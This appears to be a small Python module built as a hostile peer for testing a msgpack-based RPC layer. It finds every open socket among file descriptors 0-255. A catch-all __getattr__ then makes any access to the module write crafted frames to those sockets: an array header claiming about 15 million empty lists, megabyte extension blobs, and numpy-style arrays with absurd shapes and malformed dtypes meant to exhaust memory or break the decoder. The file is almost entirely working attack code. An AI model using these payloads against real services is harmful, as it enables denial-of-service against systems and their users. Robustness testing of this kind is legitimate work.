"""Sends small answers that grow when they are unpacked: millions of empty lists, arrays of odd shapes."""

import os
import stat
import struct


def sockets():
    found = []
    for number in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    return found


def write(data):
    for number in sockets():
        try:
            os.write(number, data)
        except OSError:
            pass


def framed(data):
    return struct.pack(">I", len(data)) + data


import msgpack

NUMBERS = iter(range(10**9))
SHAPES = ([-1], [2**62, 2**62], [float("inf")], [float("nan")], ["x"], [[1]], None, [0] * 100)
DTYPES = ("|O", "V8", "i4,i4", "(1000000000,)i8", "M8[s]", "", "\x00", 7, ["f4"], {"names": ["a"]}, None)


def array(number):
    shape, dtype = SHAPES[number % len(SHAPES)], DTYPES[number % len(DTYPES)]
    return msgpack.ExtType(1, msgpack.packb((dtype if number % 2 else "<f4", shape, bytes(4))))


def attack(*arguments, **keywords):
    number = next(NUMBERS)
    if number % 6 == 0:
        write(framed(b"\x81\xa5value\xdd" + struct.pack(">I", 15 * 2**20) + b"\x90" * (15 * 2**20)))
    elif number % 6 == 1:
        write(framed(msgpack.packb({"value": msgpack.ExtType(4, bytes(10**6))})))
    elif number % 6 == 2:
        write(framed(msgpack.packb({"value": msgpack.ExtType(5, msgpack.packb(("one", {})))})))
    else:
        write(framed(msgpack.packb({"value": array(number)})))


def __getattr__(name):
    return attack
